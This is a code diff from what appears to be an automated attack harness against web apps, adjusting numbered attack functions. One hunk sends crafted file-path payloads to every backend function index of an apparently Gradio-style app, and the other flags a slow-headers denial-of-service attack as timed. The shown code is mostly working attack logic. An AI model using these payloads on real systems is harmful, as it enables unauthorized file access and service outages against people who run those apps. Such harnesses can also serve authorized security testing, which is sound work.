@@ -312,7 +312,7 @@ def fetches(target: Target) -> str | None:
         config = client.get(f"{target.address}/config").json()
         numbers = [event["id"] for event in config["dependencies"] if event["backend_fn"]]
         for place, file in enumerate(_files(f"{url}/inside")):
-            for number in numbers[place % 7 :: 7][:12]:
+            for number in numbers[place % 7 :: 7][:4]:
                 body = (
                     f'{{"data": [{file}, [{file}], {{"deep": {file}}}, {json.dumps(file)}],'
                     f' "fn_index": {number}, "session_hash": "{secrets.token_hex(8)}"}}'
@@ -533,7 +533,7 @@ def _rpc(client: httpx.Client, target: Target, method: str, parameters: object) 
 # --- 20, 21 ---------------------------------------------------------------------------------------
 
 
-@attack(20, "a connection that says nothing more is kept for ever")
+@attack(20, "a connection that says nothing more is kept for ever", timed=True)
 def slow_headers(target: Target, seconds: float = 25) -> str | None:
     host, port = urlsplit(target.address).hostname, urlsplit(target.address).port
     with socket.create_connection((host or "", port or 80), timeout=seconds) as connection:
